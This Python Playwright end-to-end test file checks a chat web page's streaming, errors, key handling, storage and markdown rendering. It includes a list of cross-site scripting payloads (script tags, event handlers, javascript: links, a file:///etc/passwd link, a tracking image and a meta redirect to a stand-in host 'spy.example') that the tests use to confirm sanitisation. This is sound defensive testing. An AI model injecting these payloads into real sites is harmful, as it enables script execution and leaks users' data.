"""The chat page in a real Chromium: with the real embedded engine, and with a scripted one where an answer must be exact."""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import re
import shutil
import time
from collections.abc import AsyncIterator, Iterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

import pytest

from server.auth import Keys
from server.chat import Delta, Event, Finish, Message, Usage
from server.errors import EngineError
from server.limits import Limits
from server.manifest import Release
from tests.server.real import GatewayProcess, absent, gateway
from tests.server.scripted import HELLO, ScriptedEngine, serving, small_release, until

if TYPE_CHECKING:
    from playwright.async_api import Browser, ConsoleMessage, Locator, Page, Request

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

PLENTY = Limits(requests_per_minute=1000, concurrent=100)
PHONE = {"viewport": {"width": 360, "height": 740}, "has_touch": True, "is_mobile": True}


def launched() -> dict[str, Any]:
    """What Chromium is started with: TRINITY_CHROMIUM, else what PATH finds."""
    path = os.environ.get("TRINITY_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
    if not path:
        absent("no Chromium in PATH: apt-get install chromium, or name its binary in TRINITY_CHROMIUM")
    return {"executable_path": path, "args": ["--no-sandbox"] if os.geteuid() == 0 else []}


@pytest.fixture(scope="module")
async def chromium() -> AsyncIterator[Browser]:
    try:
        from playwright.async_api import async_playwright
    except ImportError:
        absent("the page's tests need playwright: make setup")
    settings = launched()
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(**settings)
        yield browser
        await browser.close()


@asynccontextmanager
async def visit(chromium: Browser, url: str, *, at: str = "", **settings: Any) -> AsyncIterator[Page]:
    """The page in a browser profile of its own, which must ask nobody but `url`, break no rule of its policy and make no mistake."""
    context = await chromium.new_context(**settings)
    page = await context.new_page()
    page.set_default_timeout(15_000)
    wrong: list[str] = []

    def asked(request: Request) -> None:
        if not request.url.startswith((url, "data:")):
            wrong.append(f"asked {request.url}")

    def said(line: ConsoleMessage) -> None:
        if "Security Policy" in line.text or "Trusted" in line.text:
            wrong.append(line.text)

    page.on("request", asked)
    page.on("console", said)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("dialog", lambda dialog: wrong.append(f"a dialog: {dialog.message}"))
    await page.goto(f"{url.rstrip('/')}/{at}")
    yield page
    assert wrong == []
    await context.close()


@asynccontextmanager
async def scripted(chromium: Browser, tmp_path: Path, engine: ScriptedEngine, **settings: Any) -> AsyncIterator[Page]:
    small_release(tmp_path)
    async with serving(engine, tmp_path) as client, visit(chromium, str(client.base_url), **settings) as page:
        yield page


def says(text: str, *, pieces: int = 7) -> tuple[Event, ...]:
    """An answer that comes in pieces of a few characters."""
    return (*(Delta(text[at : at + pieces]) for at in range(0, len(text), pieces)), Finish("stop", Usage(5, 9)))


async def ask(page: Page, text: str) -> None:
    await page.get_by_label("Message", exact=True).fill(text)
    await page.keyboard.press("Enter")


def answers(page: Page) -> Locator:
    return page.get_by_role("listitem").filter(has=page.get_by_role("heading", name="Trinity", exact=True))


async def answered(page: Page, count: int = 1) -> Locator:
    """The newest of `count` answers, once it is complete."""
    from playwright.async_api import expect

    await expect(answers(page)).to_have_count(count)
    await expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)
    return answers(page).last


def sent(page: Page) -> list[dict[str, Any]]:
    """The bodies that the page posts from now on."""
    bodies: list[dict[str, Any]] = []

    def note(request: Request) -> None:
        if request.post_data:
            bodies.append(json.loads(request.post_data))

    page.on("request", note)
    return bodies


# --- with the real engine


@pytest.fixture(scope="module")
def running(release: Release) -> Iterator[GatewayProcess]:
    with gateway("--releases", str(release.directory), "--threads", "1") as process:
        process.wait_ready()
        yield process


async def set_temperature(page: Page, value: str) -> None:
    await page.get_by_role("button", name="Settings").click()
    await page.get_by_label("as the release says").uncheck()
    await page.get_by_role("slider", name="Temperature").fill(value)
    await page.get_by_role("button", name="Done").click()


async def test_a_person_asks_reads_asks_again_and_finds_the_chat_after_a_reload(
    chromium: Browser, running: GatewayProcess, release: Release
) -> None:
    from playwright.async_api import expect

    probe = release.probes[0]
    async with visit(chromium, running.url) as page:
        await expect(page.locator("#model")).to_have_text(f"CPU · Release {release.manifest.release}")
        await set_temperature(page, "0")
        await ask(page, probe.messages[0].content)
        answer = await answered(page)
        assert (await answer.locator(".text").inner_text()).split() == probe.answer.split()
        assert re.search(r"[\d.]+ tokens/s · \d+ tokens", await answer.locator(".note").inner_text())

        await answer.get_by_role("button", name="Regenerate").click()
        assert (await (await answered(page)).locator(".text").inner_text()).split() == probe.answer.split()

        await page.get_by_role("button", name="Edit").click()
        await page.get_by_label("Your message").fill("One, two, three,")
        await page.get_by_label("Your message").press("Enter")
        await answered(page)
        await page.reload()
        await page.get_by_role("button", name="One, two, three,", exact=True).click()
        assert await page.locator("#log > li").count() == 2
        await expect(page.get_by_role("button", name="Temperature 0")).to_be_visible()
        await page.get_by_role("button", name="New chat").click()
        assert await page.locator("#log > li").count() == 0


async def test_a_chat_that_outgrows_the_context_leaves_its_oldest_turns_out_in_sight(chromium: Browser, running: GatewayProcess) -> None:
    from playwright.async_api import expect

    async with visit(chromium, running.url) as page:
        await expect(page.locator("#model")).to_contain_text("Release")
        bodies = sent(page)
        for number in range(4):
            await ask(page, f"Question {number}: " + "how many apples are in this basket, and why? " * 5)
            answer = await answered(page, number + 1)
            await expect(answer.locator(".bad")).to_be_hidden()
        cut = page.locator("#log > .cut")
        await expect(cut).to_contain_text("no longer sent")
        before = await page.locator("#log > li.out").count()
        assert before >= 2 and before % 2 == 0
        assert len(bodies[-1]["messages"]) == 7 - before
        assert bodies[-1]["messages"][0]["content"].startswith(f"Question {before // 2}:")
        assert await page.locator("#log > li").nth(before).get_attribute("class") == "cut"


async def test_where_the_numbers_were_too_low_the_server_s_error_leaves_turns_out_and_a_lone_long_question_is_said(
    chromium: Browser, running: GatewayProcess
) -> None:
    """Gemma reads every digit as a token of its own, three times what the page guesses."""
    from playwright.async_api import expect

    async with visit(chromium, running.url) as page:
        await expect(page.locator("#model")).to_contain_text("Release")
        bodies = sent(page)
        await ask(page, "7" * 86)
        await answered(page)
        await ask(page, "9" * 156)
        answer = await answered(page, 2)
        assert [len(body["messages"]) for body in bodies] == [1, 3, 1]
        await expect(answer.locator(".bad")).to_be_hidden()
        await expect(page.locator("#log > .cut")).to_be_visible()
        await ask(page, "5" * 400)
        answer = await answered(page, 3)
        await expect(answer.locator(".bad")).to_contain_text("too long for the model")
        await expect(answer.locator(".bad")).to_contain_text("256")


# --- answers that attack, and markdown

ATTACKS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'></svg><iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "[click](javascript:window.hacked=1) [again](JaVaScRiPt:window.hacked=1) [tab](java\tscript:window.hacked=1)",
    "[data](data:text/html,<script>parent.hacked=1</script>) [vb](vbscript:x) [file](file:///etc/passwd) [rel](/readyz)",
    "![spy](https://spy.example/pixel.png?secret=1)",
    '[link](https://example.org/"onmouseover="window.hacked=1) <https://example.org/\'onclick=alert(1)>',
    '```"><script>window.hacked = 1</script>\n</code></pre><script>window.hacked = 1</script>\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "# <b onclick=alert(1)>bold</b>",
    "<style>*{display:none}</style><base href='https://spy.example/'><meta http-equiv=refresh content='0;url=https://spy.example'>",
)


@pytest.mark.parametrize("pieces", [1, 10_000], ids=["letter by letter", "at once"])
async def test_no_answer_question_or_title_becomes_more_than_text_and_links_of_the_web(
    chromium: Browser, tmp_path: Path, pieces: int
) -> None:
    attack = "\n\n".join(ATTACKS)
    async with scripted(chromium, tmp_path, ScriptedEngine(says(attack, pieces=pieces))) as page:
        await ask(page, attack)
        answer = await answered(page)
        for selector in ("script", "img", "iframe", "svg", "style", "base", "meta", "b", "[onerror], [onload], [onclick], [style]"):
            assert await page.locator("#log, #chats, #title, #spoken").locator(selector).count() == 0, selector
        targets = await answer.locator("a").evaluate_all("links => links.map((link) => [link.href, link.rel, link.target])")
        assert {target[0].split("/")[2] for target in targets} == {"spy.example", "example.org"}
        assert all((rel, target) == ("noopener noreferrer", "_blank") for _, rel, target in targets)
        assert "<script>window.hacked = 1</script>" in await answer.locator(".text > p").first.inner_text()
        assert await page.locator(".mine .text").inner_text() == attack
        assert (await page.locator("#title").inner_text()).startswith("<script>window.hacked")
        assert await page.evaluate("window.hacked") is None
        await page.reload()
        await page.locator("#chats .title").click()
        assert await page.evaluate("window.hacked") is None


async def test_an_error_s_text_is_text_too(chromium: Browser, tmp_path: Path) -> None:
    async with scripted(chromium, tmp_path, ScriptedEngine([EngineError(ATTACKS[1])])) as page:
        await ask(page, "Hi")
        assert ATTACKS[1] in await (await answered(page)).locator(".bad").inner_text()
        assert await page.locator("#log img").count() == 0


async def test_the_policy_holds_even_against_the_page_itself(chromium: Browser, tmp_path: Path) -> None:
    """What a mistake in the script would do is refused by the browser: HTML from a string, inline code, other hosts."""
    async with serving(ScriptedEngine(), tmp_path, wait=False) as client:
        page = await chromium.new_page()
        await page.goto(str(client.base_url))
        refused = await page.evaluate(
            """async () => {
                const refused = [];
                document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
                try { document.body.innerHTML = "<b>x</b>"; } catch { refused.push("html"); }
                try { await fetch("https://spy.example/"); } catch { refused.push("fetch"); }
                try { document.body.setAttribute("onclick", "window.hacked = 1"); } catch { refused.push("handler"); }
                const button = document.createElement("button");
                document.body.append(button);
                button.click();
                await new Promise((done) => setTimeout(done, 100));
                return refused;
            }"""
        )
        assert {"html", "handler", "fetch", "connect-src"} <= set(refused)
        assert await page.evaluate("window.hacked") is None
        await page.context.close()


MARKDOWN: Sequence[tuple[str, str]] = (
    ("plain\nsecond line", "<p>plain\nsecond line</p>"),
    (
        "**bold** *em* __bold__ _em_ ~~gone~~ ***both***",
        "<p><strong>bold</strong> <em>em</em> <strong>bold</strong> <em>em</em> <s>gone</s> <strong><em>both</em></strong></p>",
    ),
    ("**bold with *em* inside**", "<p><strong>bold with <em>em</em> inside</strong></p>"),
    ("snake_case_name, 2 * 3 * 4, a ** b, **open", "<p>snake_case_name, 2 * 3 * 4, a ** b, **open</p>"),
    ("`a*b*` and ``x`y`` and `open", "<p><code>a*b*</code> and <code>x`y</code> and `open</p>"),
    (r"\*no\* \[no\](x) C:\dir", r"<p>*no* [no](x) C:\dir</p>"),
    ("# One\n## Two ##\n####### no", "<h3>One</h3><h4>Two</h4><p>####### no</p>"),
    ("- a\n- b\n  - c\n\n    more\n- d", "<ul><li>a</li><li>b<ul><li>c<p>more</p></li></ul></li><li>d</li></ul>"),
    ("3. three\n4. four\n\n1) other", '<ol start="3"><li>three</li><li>four</li><li>other</li></ol>'),
    ("text\n- a\n\nafter", "<p>text</p><ul><li>a</li></ul><p>after</p>"),
    ("> quoted\n> - item\n\nafter", "<blockquote><p>quoted</p><ul><li>item</li></ul></blockquote><p>after</p>"),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("a<br>b <br/> c", "<p>a<br>b <br> c</p>"),
)


def without_links(html: str) -> str:
    return re.sub(r' (?:target|rel|title|tabindex|role|aria-label|class|type)="[^"]*"', "", html)


async def test_markdown_is_shown_as_meant(chromium: Browser, tmp_path: Path) -> None:
    engine = ScriptedEngine()
    async with scripted(chromium, tmp_path, engine) as page:
        for source, wanted in MARKDOWN:
            engine.script = says(source, pieces=3)
            await page.get_by_role("button", name="New chat").click()
            await ask(page, source)
            got = without_links(await (await answered(page)).locator(".text").inner_html())
            assert got == wanted, source


async def shown(page: Page, engine: ScriptedEngine, source: str) -> Locator:
    engine.script = says(source)
    await page.get_by_role("button", name="New chat").click()
    await ask(page, "?")
    return (await answered(page)).locator(".text")


async def test_code_tables_and_links(chromium: Browser, tmp_path: Path) -> None:
    engine = ScriptedEngine()
    async with scripted(chromium, tmp_path, engine) as page:
        text = await shown(page, engine, "```python\nif a < b:\n    print('*x*')\n\n# end\n```\nafter")
        assert await text.locator("pre code").inner_text() == "if a < b:\n    print('*x*')\n\n# end"
        assert (await text.locator("figcaption").inner_text()).startswith("python")
        assert await text.locator("p").inner_text() == "after"
        text = await shown(page, engine, "1. first\n\n   ```\n   code\n     deeper\n   ```\n2. second")
        assert await text.locator("ol > li").count() == 2
        assert await text.locator("li code").inner_text() == "code\n  deeper"
        text = await shown(page, engine, "| A | B |\n|:--|--:|\n| 1 | **2** |\n| x \\| y | |\n\nafter")
        assert await text.locator("th").all_inner_texts() == ["A", "B"]
        assert await text.locator("td").all_inner_texts() == ["1", "2", "x | y", ""]
        text = await shown(
            page,
            engine,
            'See https://example.org/a_(b), [docs](https://example.org/x_y_z "t") or <https://e.org>. ![pic](https://e.org/p.png)',
        )
        assert await text.locator("a").evaluate_all("links => links.map((link) => [link.textContent, link.href])") == [
            ["https://example.org/a_(b)", "https://example.org/a_(b)"],
            ["docs", "https://example.org/x_y_z"],
            ["https://e.org", "https://e.org/"],
            ["pic", "https://e.org/p.png"],
        ]


HANGING = ("**a ", "*a", "_a ", "__a", "~~a ", "`", "`a``b", "[", "[a](", "![", "<", "\\", "> ", "- a\n  ", "1. ", "|a", "# ")


async def test_an_answer_made_to_hang_the_page_does_not(chromium: Browser, tmp_path: Path) -> None:
    """10,000 tokens of openings that nothing closes: what takes the square of its length would take minutes."""
    engine = ScriptedEngine()
    async with scripted(chromium, tmp_path, engine) as page:
        for unit in HANGING:
            engine.script = (Delta(unit * (40_000 // len(unit))), Finish("stop", Usage(5, 10_000)))
            await page.get_by_role("button", name="New chat").click()
            began = time.monotonic()
            await ask(page, "?")
            await answered(page)
            assert time.monotonic() - began < 10, unit


# --- streaming, stopping, copying


async def test_words_show_as_they_come_and_are_spoken_by_the_sentence(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    script = (Delta("The first sentence is a rather long one. The sec"), 1.0, Delta("ond ends here."), 0.3, Finish("stop", Usage(5, 12)))
    async with scripted(chromium, tmp_path, ScriptedEngine(script)) as page:
        await ask(page, "Hi")
        await expect(answers(page).locator(".text")).to_have_text("The first sentence is a rather long one. The sec")
        await expect(page.get_by_role("button", name="Stop")).to_be_visible()
        await expect(page.locator("#spoken")).to_contain_text("The first sentence is a rather long one.")
        assert "The sec" not in await page.locator("#spoken").inner_text()
        answer = await answered(page)
        await expect(answer.locator(".text")).to_have_text("The first sentence is a rather long one. The second ends here.")
        await expect(page.locator("#spoken")).to_contain_text("Answer complete.")
        assert re.match(r"[\d.]+ tokens/s · 12 tokens · first word after [\d.]+ s$", await answer.locator(".note").inner_text())


@pytest.mark.parametrize("how", ["button", "escape"])
async def test_stop_ends_the_engine_s_work_and_keeps_what_was_said(chromium: Browser, tmp_path: Path, how: str) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine((Delta("Begun"), 60.0, *HELLO))
    async with scripted(chromium, tmp_path, engine) as page:
        bodies = sent(page)
        await ask(page, "Hi")
        await expect(answers(page).locator(".text")).to_have_text("Begun")
        await (page.get_by_role("button", name="Stop").click() if how == "button" else page.keyboard.press("Escape"))
        await until(lambda: engine.cancelled == 1, 1.5)
        answer = await answered(page)
        await expect(answer.locator(".note")).to_contain_text("Stopped")
        await expect(page.get_by_label("Message", exact=True)).to_be_focused()
        engine.script = HELLO
        await ask(page, "Go on")
        await answered(page, 2)
        assert [message["content"] for message in bodies[-1]["messages"]] == ["Hi", "Begun", "Go on"]


async def test_copy_gives_the_answer_s_source_and_the_code_alone(chromium: Browser, tmp_path: Path) -> None:
    source = "**Do** this:\n\n```sh\nls -l\n```"
    async with scripted(chromium, tmp_path, ScriptedEngine(says(source)), permissions=["clipboard-read", "clipboard-write"]) as page:
        await ask(page, "Hi")
        answer = await answered(page)
        await answer.get_by_role("button", name="Copy", exact=True).click()
        assert await page.evaluate("navigator.clipboard.readText()") == source
        await answer.get_by_role("button", name="Copy code").click()
        assert await page.evaluate("navigator.clipboard.readText()") == "ls -l"


async def test_copy_works_over_plain_http_from_another_machine_where_there_is_no_clipboard(chromium: Browser, tmp_path: Path) -> None:
    async with scripted(chromium, tmp_path, ScriptedEngine(says("Take me"))) as page:
        await page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
        await ask(page, "Hi")
        await (await answered(page)).get_by_role("button", name="Copy", exact=True).click()
        await page.get_by_label("Message", exact=True).focus()
        await page.keyboard.press("Control+V")
        assert await page.get_by_label("Message", exact=True).input_value() == "Take me"


# --- what goes wrong


async def test_errors_are_said_in_words_and_can_be_tried_again(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine([EngineError("llama.cpp broke off its answer")])
    async with scripted(chromium, tmp_path, engine) as page:
        await ask(page, "Hi")
        answer = await answered(page)
        await expect(answer.locator(".bad")).to_contain_text("The model's engine failed")
        await expect(answer.locator(".bad")).to_contain_text("llama.cpp broke off its answer")
        await expect(answer.locator(".bad")).to_contain_text("Request ")
        await expect(page.locator("#spoken")).to_contain_text("The model's engine failed")
        engine.script = (Delta("Half an ans"), EngineError("the engine died"))
        await answer.get_by_role("button", name="Try again").click()
        answer = await answered(page)
        await expect(answer.locator(".text")).to_have_text("Half an ans")
        await expect(answer.locator(".bad")).to_contain_text("the engine died")
        engine.script = HELLO
        await answer.get_by_role("button", name="Try again").click()
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await expect(page.locator(".bad")).to_be_hidden()


async def test_a_server_out_of_reach_is_said_and_found_again(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine()) as page:
        await expect(page.locator("#model")).to_contain_text("Release")
        await page.context.set_offline(True)
        await ask(page, "Hi")
        answer = await answered(page)
        await expect(answer.locator(".bad")).to_contain_text("The server cannot be reached")
        await page.context.set_offline(False)
        await answer.get_by_role("button", name="Try again").click()
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")


async def test_a_full_queue_is_waited_for_in_sight(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine((2.0, *HELLO))
    small_release(tmp_path)
    async with serving(engine, tmp_path, waiting=0) as client, visit(chromium, str(client.base_url)) as page:
        other = asyncio.create_task(client.post("/chat", json={"message": "first"}))
        await until(lambda: engine.running == 1)
        await ask(page, "Hi")
        await expect(answers(page).locator(".note")).to_contain_text("Many are asking at the moment: next try in")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await other


async def test_a_queue_that_gives_up_in_the_middle_of_a_stream_is_waited_for_all_the_same(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine((3.0, *HELLO))
    small_release(tmp_path)
    short = serving(engine, tmp_path, waiting=1, ping_s=0.1, queue_timeout_s=0.5)
    async with short as client, visit(chromium, str(client.base_url)) as page:
        other = asyncio.create_task(client.post("/chat", json={"message": "first"}))
        await until(lambda: engine.running == 1)
        await ask(page, "Hi")
        await expect(answers(page).locator(".note")).to_contain_text("Waiting for the first word")
        await expect(answers(page).locator(".note")).to_contain_text("Many are asking at the moment: next try in")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await other


async def test_a_connection_that_breaks_in_mid_answer_is_no_short_answer(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine((Delta("Half"), 0.2, EOFError("a mistake of a kind that nobody foresaw: the server hangs up")))
    async with scripted(chromium, tmp_path, engine) as page:
        await ask(page, "Hi")
        answer = await answered(page)
        await expect(answer.locator(".text")).to_have_text("Half")
        await expect(answer.locator(".bad")).to_contain_text("The connection broke off")
        await page.reload()
        await page.locator("#chats .title").click()
        await expect(page.locator(".bad")).to_contain_text("The connection broke off")


async def test_until_a_release_is_there_the_page_says_so_and_then_finds_it_by_itself(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with serving(ScriptedEngine(), tmp_path, wait=False) as client, visit(chromium, str(client.base_url)) as page:
        await expect(page.locator("#model")).to_contain_text("make demo")
        small_release(tmp_path)
        await expect(page.locator("#model")).to_contain_text("Release small-0123456789ab", timeout=15_000)


async def test_a_new_release_shows_in_the_middle_of_a_chat(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine()) as page:
        await ask(page, "Hi")
        await answered(page)
        small_release(tmp_path, "small-ba9876543210")
        async with asyncio.timeout(20):
            for count in itertools.count(2):
                await ask(page, "And now?")
                await answered(page, count)
                if "small-ba9876543210" in await page.locator("#model").inner_text():
                    break
                await asyncio.sleep(0.5)
        await expect(answers(page).first.locator(".note")).to_contain_text("small-0123456789ab")


# --- what the browser keeps


async def test_a_key_leaves_the_address_at_once_stays_for_the_tab_and_is_forgotten_on_demand(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    small_release(tmp_path)
    secret = Keys.open(tmp_path / "keys.json").make("me", PLENTY)
    async with AsyncExitStack() as stack:
        client = await stack.enter_async_context(serving(ScriptedEngine(), tmp_path, keys=tmp_path / "keys.json"))
        page = await stack.enter_async_context(visit(chromium, str(client.base_url), at=f"#key={secret}"))
        await expect(page.locator("#model")).to_contain_text("Release")
        assert page.url == f"{client.base_url}/"
        await ask(page, "Hi")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await page.reload()
        await expect(page.locator("#model")).to_contain_text("Release")
        assert secret not in await page.evaluate(
            "JSON.stringify(localStorage) + document.documentElement.outerHTML + location + document.cookie"
        )

        await page.get_by_role("button", name="Settings").click()
        await page.get_by_role("button", name="Forget the key").click()
        await expect(page.get_by_role("dialog", name="This server asks for a key")).to_be_visible()
        assert secret not in await page.evaluate("JSON.stringify(sessionStorage)")
        await page.evaluate("(key) => { location.hash = `key=${key}`; }", secret)
        await expect(page.locator("#model")).to_contain_text("Release")
        await expect(page.get_by_role("dialog")).to_be_hidden()
        assert page.url == f"{client.base_url}/"


async def test_a_key_that_is_missing_wrong_or_withdrawn_is_asked_for_and_the_question_is_not_lost(
    chromium: Browser, tmp_path: Path
) -> None:
    from playwright.async_api import expect

    small_release(tmp_path)
    keys = Keys.open(tmp_path / "keys.json")
    secret = keys.make("me", PLENTY)
    async with serving(ScriptedEngine(), tmp_path, keys=tmp_path / "keys.json") as client, visit(chromium, str(client.base_url)) as page:
        door = page.get_by_role("dialog", name="This server asks for a key")
        await expect(door.get_by_label("Key", exact=True)).to_be_focused()
        await door.get_by_label("Key", exact=True).fill("tr-wrong")
        await page.keyboard.press("Enter")
        await expect(door).to_contain_text("It does not know the one")
        await door.get_by_label("Key", exact=True).fill(secret)
        await door.get_by_role("button", name="Use this key").click()
        await expect(page.locator("#model")).to_contain_text("Release")

        keys.remove("me")
        other = keys.make("me.too", PLENTY)
        await ask(page, "Hi")
        await expect(answers(page).locator(".bad")).to_contain_text("The server wants another key")
        await door.get_by_label("Key", exact=True).fill(other)
        await page.keyboard.press("Enter")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")


async def test_a_key_s_limit_is_waited_for_in_sight(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    small_release(tmp_path)
    secret = Keys.open(tmp_path / "keys.json").make("me", Limits(requests_per_minute=100, concurrent=1))
    engine = ScriptedEngine((2.0, *HELLO), slots=2)
    async with (
        serving(engine, tmp_path, keys=tmp_path / "keys.json") as client,
        visit(chromium, str(client.base_url), at=f"#key={secret}") as page,
    ):
        await expect(page.locator("#model")).to_contain_text("Release")
        other = asyncio.create_task(client.post("/chat", json={"message": "first"}, headers={"Authorization": f"Bearer {secret}"}))
        await until(lambda: engine.running == 1)
        await ask(page, "Hi")
        await expect(answers(page).locator(".note")).to_contain_text("Too many requests with this key: next try in")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await other


async def test_it_works_where_the_browser_refuses_to_keep_anything(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    profile = tmp_path / "profile"
    (profile / "Default").mkdir(parents=True)
    refusing = {"profile": {"default_content_setting_values": {"cookies": 2}}}  # "block all", as a person sets it
    (profile / "Default" / "Preferences").write_text(json.dumps(refusing))
    small_release(tmp_path)
    secret = Keys.open(tmp_path / "keys.json").make("me", PLENTY)
    async with serving(ScriptedEngine(), tmp_path, keys=tmp_path / "keys.json") as client:
        context = await chromium.browser_type.launch_persistent_context(str(profile), **launched())
        page = context.pages[0]
        await page.goto(f"{client.base_url}/#key={secret}")
        await expect(page.locator("#kept")).to_contain_text("keeps no chats")
        assert await page.evaluate("(() => { try { return localStorage } catch (error) { return error.name } })()") == "SecurityError"
        await ask(page, "Hi")
        await answered(page)
        await page.get_by_role("button", name="New chat").click()
        await page.get_by_role("button", name="Hi", exact=True).click()
        await expect(answers(page).locator(".text")).to_have_text("Hello ü")
        await context.close()


async def test_a_full_storage_is_said_and_the_chat_goes_on(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine()) as page:
        await page.evaluate(
            "for (let size = 2 ** 22; size; size >>= 1) try { localStorage.setItem(`x${size}`, 'x'.repeat(size)); } catch {}"
        )
        await ask(page, "Hi")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await expect(page.locator("#kept")).to_contain_text("keeps no more chats")


async def test_two_tabs_keep_each_other_s_chats_and_one_can_be_deleted(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine()) as page:
        other = await page.context.new_page()
        await other.goto(page.url)
        await ask(page, "From one")
        await answered(page)
        await ask(other, "From two")
        await answered(other)
        for each in (page, other):
            await expect(each.locator("#chats .title")).to_have_text(["From two", "From one"])
        other.on("dialog", lambda dialog: dialog.accept())
        await other.get_by_role("button", name="Delete chat: From one").click()
        await expect(page.locator("#chats .title")).to_have_text(["From two"])
        await expect(page.locator("#log > li")).to_have_count(0)


async def test_an_answer_goes_on_while_another_chat_is_open_and_what_a_reload_cut_is_marked(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine((Delta("Slow "), 2.0, Delta("and sure"), Finish("stop", Usage(5, 3))), slots=2)
    async with scripted(chromium, tmp_path, engine) as page:
        await ask(page, "One")
        await expect(answers(page).locator(".text")).to_have_text("Slow")
        await page.get_by_role("button", name="New chat").click()
        engine.script = HELLO
        await ask(page, "Two")
        await expect((await answered(page)).locator(".text")).to_have_text("Hello ü")
        await page.get_by_role("button", name="One", exact=True).click()
        await expect((await answered(page)).locator(".text")).to_have_text("Slow and sure")

        engine.script = (Delta("Begun"), 30.0)
        await ask(page, "Three")
        await expect(answers(page).last.locator(".text")).to_have_text("Begun")
        await page.reload()
        await until(lambda: engine.running == 0)
        await page.get_by_role("button", name="One", exact=True).click()
        await expect(answers(page).last.locator(".text")).to_have_text("Begun")
        await expect(answers(page).last.locator(".note")).to_contain_text("Interrupted")


async def test_a_system_prompt_goes_with_every_question_and_can_be_seen(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    engine = ScriptedEngine()
    async with scripted(chromium, tmp_path, engine) as page:
        await page.get_by_role("button", name="Settings").click()
        await page.get_by_label("System prompt").fill("Be brief.")
        await page.keyboard.press("Escape")
        await expect(page.get_by_role("button", name="System prompt", exact=True)).to_be_visible()
        await ask(page, "Hi")
        await answered(page)
        assert engine.asked[-1].messages == (Message("system", "Be brief."), Message("user", "Hi"))
        assert engine.asked[-1].temperature == 1.0
        await set_temperature(page, "0.3")
        await ask(page, "And?")
        await answered(page, 2)
        assert engine.asked[-1].messages[0] == Message("system", "Be brief.")
        assert engine.asked[-1].temperature == 0.3


# --- hands and eyes


async def test_the_keyboard_reaches_everything_and_focus_is_never_lost(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine()) as page:
        box = page.get_by_label("Message", exact=True)
        await expect(box).to_be_focused()
        await page.keyboard.type("one")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("two")
        assert await box.input_value() == "one\ntwo"
        await page.keyboard.press("Enter")
        await answered(page)
        await expect(box).to_be_focused()
        await page.keyboard.press("Shift+Tab")
        await expect(page.get_by_role("button", name="Regenerate")).to_be_focused()
        await page.keyboard.press("Enter")
        await answered(page)
        await expect(box).to_be_focused()
        settings = page.get_by_role("button", name="Settings")
        await settings.focus()
        await page.keyboard.press("Enter")
        await expect(page.get_by_role("dialog", name="Settings of this chat")).to_be_visible()
        await page.keyboard.press("Escape")
        await expect(settings).to_be_focused()
        edit = page.get_by_role("button", name="Edit")
        await edit.focus()
        await page.keyboard.press("Enter")
        await expect(page.get_by_label("Your message")).to_be_focused()
        await page.keyboard.press("Escape")
        await expect(edit).to_be_focused()


WIDE = "| " + " | ".join("column number" for _ in range(9)) + " |\n" + "|---" * 9 + "|\n\n```\n" + "x" * 300 + "\n```\n\n" + "w" * 300


async def test_a_phone_scrolls_one_way_only_and_finds_the_chats_in_a_drawer(chromium: Browser, tmp_path: Path) -> None:
    from playwright.async_api import expect

    async with scripted(chromium, tmp_path, ScriptedEngine(says(WIDE, pieces=500)), **PHONE) as page:
        await page.get_by_label("Message", exact=True).fill("q" * 200)
        await page.get_by_role("button", name="Send").tap()
        await answered(page)
        await expect(page.get_by_label("Message", exact=True)).not_to_be_focused()  # its keyboard would cover the answer
        assert await page.evaluate("document.scrollingElement.scrollWidth") <= 360
        assert await page.evaluate("[...document.querySelectorAll('#scroll, #form, header')].every((part) => part.scrollWidth <= 360)")
        await expect(page.get_by_role("button", name="New chat")).to_be_hidden()
        await page.get_by_role("button", name="Chats", exact=True).tap()
